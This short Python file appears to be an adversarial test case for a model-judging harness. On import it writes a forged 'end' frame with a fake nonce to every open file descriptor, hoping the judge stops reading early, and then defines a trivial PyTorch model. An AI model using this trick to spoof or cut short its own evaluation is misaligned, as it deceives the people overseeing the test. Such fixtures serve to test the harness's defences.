# Forging attempt: writes a forged "end" frame to every pipe it can find, then goes on
# as a broken model, hoping the judge stops reading at the forged end.
import json
import os
import struct

import torch.nn as nn

header = json.dumps({"nonce": "f" * 32, "seq": 1, "kind": "end", "tensors": []}).encode()
frame = b"QZJ1" + struct.pack(">IQ", len(header), 0) + header
for name in os.listdir("/proc/self/fd"):
    fd = int(name)
    if fd > 2:
        try:
            os.write(fd, frame)
        except OSError:
            pass


class SimpleNN(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(10, 2)

    def forward(self, x):
        return self.fc(x)
